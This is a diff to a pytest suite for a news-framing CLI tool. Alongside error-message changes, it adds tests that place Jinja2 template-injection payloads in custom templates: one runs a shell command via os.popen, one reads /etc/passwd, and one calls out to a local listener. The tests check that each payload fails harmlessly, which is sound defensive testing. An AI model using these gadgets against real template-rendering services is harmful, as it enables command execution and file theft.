@@ -415,8 +415,11 @@ def test_report_refuses_to_overwrite_an_input(tmp_path: Path) -> None:
     folder = story(tmp_path, "report-over-input")
     before = (folder / "over-input.html").read_bytes()
     result = invoke("report", folder, "--out", folder, "--format", "html")
-    assert result.exit_code == 1
-    assert result.stderr == f"framing: error: {folder / 'over-input.html'}: is one of the inputs; choose an --out folder outside the story\n"
+    assert result.exit_code == 2
+    assert result.stderr == (
+        f"framing: error: {folder}: is inside the story folder, so the next run would read the report as an article;"
+        f" choose an --out folder outside {folder}\n"
+    )
     assert (folder / "over-input.html").read_bytes() == before
 
 
@@ -427,7 +430,7 @@ def test_report_refuses_to_overwrite_a_skipped_input(tmp_path: Path) -> None:
     before = (folder / "over-input.html").read_bytes()
     result = invoke("report", folder, "--out", folder, "--format", "html")
     assert (folder / "over-input.html").read_bytes() == before
-    assert result.exit_code == 1 and "is one of the inputs" in result.stderr
+    assert result.exit_code == 2 and "is inside the story folder" in result.stderr
 
 
 def test_analysis_refuses_to_overwrite_an_input(tmp_path: Path) -> None:
@@ -595,3 +598,68 @@ def test_unexpected_failure_is_one_line(tmp_path: Path, monkeypatch: pytest.Monk
 def test_forced_encoding_names_the_file_and_the_option(tmp_path: Path) -> None:
     with pytest.raises(InputError, match=r"cp1251-russian.txt: is not valid ascii .*; try another --encoding"):
         load_story(HOSTILE / "encodings", LoadOptions(encoding="ascii", strict=True))
+
+
+# -- rendering, output and CLI -------------------------------------------------------------------
+
+
+def _hostile_templates(tmp_path: Path, payload: str) -> Path:
+    folder = tmp_path / "templates"
+    folder.mkdir()
+    (folder / "report.html.j2").write_text('{% extends "base.html.j2" %}\n{% block masthead %}' + payload + "{% endblock %}\n", "utf-8")
+    return folder
+
+
+def _report_with(tmp_path: Path, payload: str) -> Any:
+    templates = _hostile_templates(tmp_path, payload)
+    return invoke("report", story(tmp_path, "skipped"), "--out", tmp_path / "out", "--format", "html", "--templates", templates)
+
+
+def test_template_payload_that_runs_a_command_fails_and_runs_nothing(tmp_path: Path) -> None:
+    marker = tmp_path / "pwned"
+    result = _report_with(tmp_path, "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "').read() }}")
+    assert result.exit_code == 1
+    assert result.stderr.splitlines()[-1].startswith(f"framing: error: {tmp_path / 'templates' / 'report.html.j2'}:2: template failed: ")
+    assert result.stderr.count("framing: error:") == 1 and "Traceback" not in result.stderr
+    assert not marker.exists() and not (tmp_path / "out").exists()
+
+
+def test_template_payload_that_reads_a_file_fails_and_shows_nothing(tmp_path: Path) -> None:
+    result = _report_with(tmp_path, "{{ lipsum.__globals__['__builtins__']['open']('/etc/passwd').read() }}")
+    assert result.exit_code == 1
+    assert "template failed" in result.stderr and "root:" not in result.stderr + result.stdout
+    assert not (tmp_path / "out").exists()
+
+
+def test_template_payload_that_calls_out_fails_and_connects_nowhere(tmp_path: Path) -> None:
+    listener = _Listener()
+    try:
+        url = f"http://127.0.0.1:{listener.port}/leak"
+        result = _report_with(
+            tmp_path, "{{ lipsum.__globals__.__builtins__.__import__('urllib.request').request.urlopen('" + url + "').read() }}"
+        )
+        time.sleep(0.3)
+    finally:
+        listener.close()
+    assert result.exit_code == 1 and "template failed" in result.stderr
+    assert listener.connections == 0
+    assert not (tmp_path / "out").exists()
+
+
+def test_skipped_hostile_inputs_are_each_named_on_the_terminal(tmp_path: Path) -> None:
+    folder = story(tmp_path, "skipped")
+    result = invoke("analyze", folder)
+    assert result.exit_code == 0
+    skipped = sorted(line for line in result.stderr.splitlines() if line.startswith("framing: skipped "))
+    assert skipped == [
+        f"framing: skipped {folder / 'empty.txt'}: is empty; remove it or fill it",
+        f"framing: skipped {folder / 'photo.txt'}: looks binary, not text; give .txt, .md or .html articles",
+    ]
+
+
+def test_analysis_out_on_a_device_leaves_the_device(tmp_path: Path) -> None:
+    pipe = tmp_path / "pipe.json"
+    os.mkfifo(pipe)
+    result = invoke("analyze", story(tmp_path, "skipped"), "--out", pipe)
+    assert result.exit_code == 1 and "is not a regular file" in result.stderr
+    assert not pipe.is_file() and pipe.exists()
